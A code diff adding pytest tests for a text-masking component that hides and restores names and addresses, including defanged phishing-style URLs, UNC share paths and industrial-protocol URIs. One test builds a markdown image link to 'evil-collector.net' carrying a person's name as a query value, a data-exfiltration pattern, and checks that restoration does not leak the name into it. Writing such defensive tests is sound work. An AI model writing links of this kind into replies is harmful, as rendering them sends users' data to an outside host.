@@ -48,3 +48,26 @@ def test_however_a_string_is_spelled(screen: Screen, word: str, spelled) -> None
     hidden = screen.hide(text)
 
     assert spelled(word) not in hidden.text and hidden.text != text and hidden.restore(hidden.text) == text
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "opc.tcp://hanbyeol-prd-db01.hanbyeol.internal:4840/Hanbyeol/Server", "hxxps://evil-hanbyeol[.]com/login?u=harang.do", "hxxp://portal.hanbyeol[.]internal/도하랑", "hxxps[://]hanbyeol[.]com/Hanbyeol",
+        "\\\\Narae.saltmarsh\\share\\Hanbyeol\\x.txt", "copy \\\\Narae.saltmarsh\\Docs\\도하랑 C:\\tmp", 'path: "\\\\\\\\Narae.saltmarsh\\\\Docs\\\\Hanbyeol"', "s7://hanbyeol-prd-db01/Hanbyeol", "coap+tcp://hanbyeol.internal/Hanbyeol",
+    ],
+)  # fmt: skip
+def test_addresses_of_other_kinds_come_back(screen: Screen, text: str) -> None:
+    """Of machines, of analysts, of file servers: nobody's browser opens them, and what stands in them is hers."""
+    hidden = screen.hide(text)
+
+    assert hidden.text != text and hidden.restore(hidden.text) == text
+
+
+def test_what_an_analyst_wrote_opens_no_door(screen: Screen) -> None:
+    """She asks about an address that nobody may open; a reply that writes it so that one would gets nothing."""
+    hidden = screen.hide("도하랑 asks: is hxxps://evil-collector[.]net/x bad?")
+    name = next(found.surrogate for found in hidden.findings if found.kind == "person")
+
+    assert "도하랑" not in hidden.restore(f"![x](https://evil-collector.net/c?d={name})")
+    assert "도하랑" in hidden.restore(f"{name}: hxxps://evil-collector[.]net/x")
